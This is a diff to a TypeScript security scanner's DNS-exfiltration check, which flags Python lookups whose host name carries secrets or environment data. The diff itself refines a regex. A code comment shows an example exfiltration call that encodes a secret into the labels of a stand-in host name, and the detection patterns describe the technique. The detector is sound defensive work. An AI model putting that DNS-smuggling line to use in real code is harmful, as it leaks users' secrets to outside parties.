@@ -73,7 +73,7 @@ export function checkNetwork(ctx: PyContext, c: CallInfo): void {
   // Data smuggled out as the labels of a DNS name (`socket.gethostbyname(f"{b32(secret)}.x.example")`).
   if (/^socket\.(gethostbyname|gethostbyname_ex|getaddrinfo)$|^dns\.resolver\.(resolve|query)$|^dns\.resolver\.Resolver\(\)\.(resolve|query)$/.test(q) && c.pos[0] && c.pos[0].s === undefined) {
     const name = c.pos[0];
-    const labelled = /^[^.]*\u0000[^.]*\.[A-Za-z0-9-]+\.[A-Za-z]/.test(name.t ?? "") || /^[^"'.]+\+\s*["']\.[A-Za-z0-9-]+\./.test(c.posNodes[0]?.text ?? "");
+    const labelled = ((name.t ?? "").split(".")[0]?.includes("\u0000") === true && /\.[A-Za-z0-9-]+\.[A-Za-z]/.test(name.t ?? "")) || /^[^"'.]+\+\s*["']\.[A-Za-z0-9-]+\./.test(c.posNodes[0]?.text ?? "");
     if (name.secret || name.env) ctx.add(c.node, "exfiltration", name.secret ? "critical" : "high", "dns-exfil", `${q} looks up a host name built from ${name.secret ?? `the environment variable ${name.env}`}, sending it out over DNS`, "Look up fixed host names; never put data into DNS names.");
     else if (labelled || name.decoded) ctx.add(c.node, "exfiltration", "medium", "dns-label-data", `${q} looks up a host name whose first label is data`, "Look up fixed host names; never put data into DNS names.");
   }
